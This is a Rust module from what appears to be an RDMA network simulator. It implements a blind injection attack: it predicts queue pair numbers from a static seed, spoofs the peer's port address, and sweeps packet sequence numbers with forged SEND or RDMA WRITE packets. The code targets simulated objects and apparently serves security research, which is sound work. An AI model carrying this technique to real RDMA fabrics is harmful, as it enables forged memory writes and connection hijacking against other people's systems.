//! Blind packet injection into an established reliable connection.
//!
//! The receiver accepts a request only at its expected PSN. Duplicates from
//! the half window behind it are acknowledged and dropped, so sweeping PSNs
//! in descending order lands exactly one forged packet and leaves the
//! receiver one ahead of the legitimate sender.

use crate::fabric::Actor;
use crate::harness::Testbed;
use crate::rnic::{Dest, QpKind, Qpn, Verdict};
use crate::sim::World;
use crate::wire::PortAddr;
use crate::NodeId;

use super::AttackError;

/// What an attacker knows about a device family: the range its post-reboot
/// QPN seed falls in, and how many connections typically follow a reboot.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackerKnowledge {
    pub seed_low: u32,
    pub seed_high: u32,
    pub window: u32,
}

impl AttackerKnowledge {
    pub fn for_testbed(tb: &Testbed) -> Self {
        let seed = tb.world.config().rnic.qpn_seed;
        AttackerKnowledge {
            seed_low: seed,
            seed_high: seed,
            window: 8,
        }
    }

    /// Remote candidates in sweep order.
    pub fn candidates(&self, qpn_bits: u8) -> Vec<Qpn> {
        let mask = (1u32 << qpn_bits) - 1;
        let mut out = Vec::new();
        for seed in self.seed_low..=self.seed_high {
            for i in 0..self.window {
                let q = (seed + i) & mask;
                if q > crate::rnic::CM_QPN && !out.contains(&q) {
                    out.push(q);
                }
            }
        }
        out
    }
}

/// Estimates QPNs in use on `victim_node`. A local attacker allocates one QP
/// and reads its number: everything between the static seed and it was handed
/// to earlier connections, most recent first. A remote attacker falls back to
/// the seed range.
pub fn guess_qpn(world: &mut World, actor: &Actor, victim_node: NodeId, knowledge: &AttackerKnowledge) -> Vec<Qpn> {
    let bits = world.config().widths.qpn_bits;
    if actor.node == victim_node {
        let rnic = &mut world.node_mut(victim_node).rnic;
        if let Ok(own) = rnic.alloc_qp(actor, QpKind::Rc) {
            rnic.destroy_qp(own);
            let seed = rnic.qpn_generator().static_seed();
            return (seed.max(crate::rnic::CM_QPN + 1)..own).rev().collect();
        }
    }
    knowledge.candidates(bits)
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum InjectPayload {
    Send(Vec<u8>),
    Write { rkey: u32, vaddr: u64, data: Vec<u8> },
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SweepOptions {
    /// Endpoints used in parallel, bounded by the device and quota limits.
    pub endpoints: usize,
    /// First PSN tried; the sweep then walks downwards.
    pub start_psn: u32,
    pub stop_on_accept: bool,
    /// Upper bound on packets, defaults to the sequence space.
    pub max_packets: Option<u64>,
}

impl Default for SweepOptions {
    fn default() -> Self {
        SweepOptions {
            endpoints: 64,
            start_psn: 0,
            stop_on_accept: true,
            max_packets: None,
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Injection {
    /// PSN of the first forged packet the receiver executed, when known.
    pub psn: Option<u32>,
    pub verdict: Verdict,
    /// Forged packets sent.
    pub cost: u64,
}

/// Sweeps the receiver's PSN space with forged requests towards `dest`.
///
/// `impersonate` names the address the receiver's QP is connected to. A local
/// attacker already owns it; a remote administrator takes it over with a
/// port address change for the duration of the sweep.
pub fn enumerate_psn_inject(
    world: &mut World,
    actor: &Actor,
    impersonate: PortAddr,
    dest: Dest,
    payload: &InjectPayload,
    opts: &SweepOptions,
) -> Result<Injection, AttackError> {
    let victim_node = world
        .fabric
        .node_at(dest.addr)
        .ok_or_else(|| AttackError::Blocked(format!("{} unreachable", dest.addr)))?;
    let home = world.fabric.home_address(actor.node).expect("attached node");
    let takeover = impersonate != home;
    let claim = |world: &mut World| -> Result<(), AttackError> {
        if takeover && world.fabric.address_of(actor.node) != Some(impersonate) {
            world
                .set_port_address(actor, impersonate)
                .map_err(|e| AttackError::Blocked(e.to_string()))?;
        }
        Ok(())
    };
    claim(world)?;

    let mut qps = Vec::new();
    let mut first_err = None;
    for _ in 0..opts.endpoints.max(1) {
        match world.node_mut(actor.node).rnic.create_qp(actor, dest, opts.start_psn) {
            Ok(q) => qps.push(q),
            Err(e) => {
                first_err = Some(e);
                break;
            }
        }
    }
    let result = if qps.is_empty() {
        Err(AttackError::Blocked(first_err.map(|e| e.to_string()).unwrap_or_default()))
    } else {
        sweep(world, actor, victim_node, dest, payload, opts, &qps, claim)
    };

    let rnic = &mut world.node_mut(actor.node).rnic;
    for q in qps {
        rnic.destroy_qp(q);
    }
    if takeover {
        let _ = world.set_port_address(actor, home);
    }
    world.run_until_idle(10_000);
    world.take_mail(actor.id);
    result
}

#[allow(clippy::too_many_arguments)]
fn sweep(
    world: &mut World,
    actor: &Actor,
    victim_node: NodeId,
    dest: Dest,
    payload: &InjectPayload,
    opts: &SweepOptions,
    qps: &[Qpn],
    claim: impl Fn(&mut World) -> Result<(), AttackError>,
) -> Result<Injection, AttackError> {
    let space = world.config().widths.psn_space() as u64;
    let mask = space as u32 - 1;
    let limit = opts.max_packets.unwrap_or(space).min(space);
    let mut cursor = world.deliveries().len();
    let mut sent = 0u64;
    let mut skipped = 0u64;
    let mut round = 1usize;
    let mut hit: Option<Injection> = None;

    while sent < limit {
        claim(world)?;
        let n = (round.min(qps.len()) as u64).min(limit - sent);
        let mut psns = Vec::with_capacity(n as usize);
        for &q in qps.iter().take(n as usize) {
            let psn = opts.start_psn.wrapping_sub(sent as u32) & mask;
            if hit.and_then(|h| h.psn).is_some_and(|p| psn == (p + 1) & mask) {
                // The receiver now expects this PSN; a full-space sweep wraps
                // round to it last and would land a second copy.
                sent += 1;
                skipped += 1;
                continue;
            }
            let now = world.now();
            let rnic = &mut world.node_mut(actor.node).rnic;
            rnic.reset_qp(q, psn).expect("attacker QP is connected");
            let posted = match payload {
                InjectPayload::Send(p) => rnic.post_send(q, p.clone(), now),
                InjectPayload::Write { rkey, vaddr, data } => rnic.post_rdma_write(q, data.clone(), *rkey, *vaddr, now),
            };
            posted.map_err(|e| AttackError::Blocked(e.to_string()))?;
            psns.push(psn);
            sent += 1;
        }
        world.run_until_idle(10_000);

        let log = &world.deliveries()[cursor..];
        cursor = world.deliveries().len();
        if hit.is_none() {
            let found = log.iter().filter(|r| r.node == victim_node).find_map(|r| match r.verdict {
                Some(v @ Verdict::Accepted { qpn, psn, .. }) if qpn == dest.qpn => Some((v, Some(psn))),
                Some(v @ Verdict::AccessViolation { qpn }) if qpn == dest.qpn => Some((v, None)),
                _ => None,
            });
            if let Some((verdict, psn)) = found {
                // The packets of this round went out in order; without a PSN in
                // the verdict, attribute the hit to the last one sent.
                let psn = psn.or(psns.last().copied());
                let cost = match psn.and_then(|p| psns.iter().position(|&x| x == p)) {
                    Some(i) if opts.stop_on_accept => sent - (psns.len() - 1 - i) as u64,
                    _ => sent,
                };
                hit = Some(Injection { psn, verdict, cost });
                if opts.stop_on_accept {
                    break;
                }
            }
        }
        round = round.saturating_mul(2);
    }
    match hit {
        Some(mut h) => {
            if !opts.stop_on_accept {
                h.cost = sent - skipped;
            }
            Ok(h)
        }
        None => Err(AttackError::SweepExhausted),
    }
}

/// Tries every candidate QPN until one sweep lands. Returns the QPN that
/// accepted, the injection, and the total cost over all candidates.
pub(crate) fn inject_any(
    world: &mut World,
    actor: &Actor,
    impersonate: PortAddr,
    peer: PortAddr,
    candidates: &[Qpn],
    payload: &InjectPayload,
    opts: &SweepOptions,
) -> (Option<(Qpn, Injection)>, u64) {
    let mut cost = 0;
    for &qpn in candidates {
        let dest = Dest { addr: peer, qpn };
        match enumerate_psn_inject(world, actor, impersonate, dest, payload, opts) {
            Ok(inj) => return (Some((qpn, inj)), cost + inj.cost),
            Err(AttackError::SweepExhausted) => cost += opts.max_packets.unwrap_or(world.config().widths.psn_space() as u64),
            Err(_) => cost += 1,
        }
    }
    (None, cost)
}
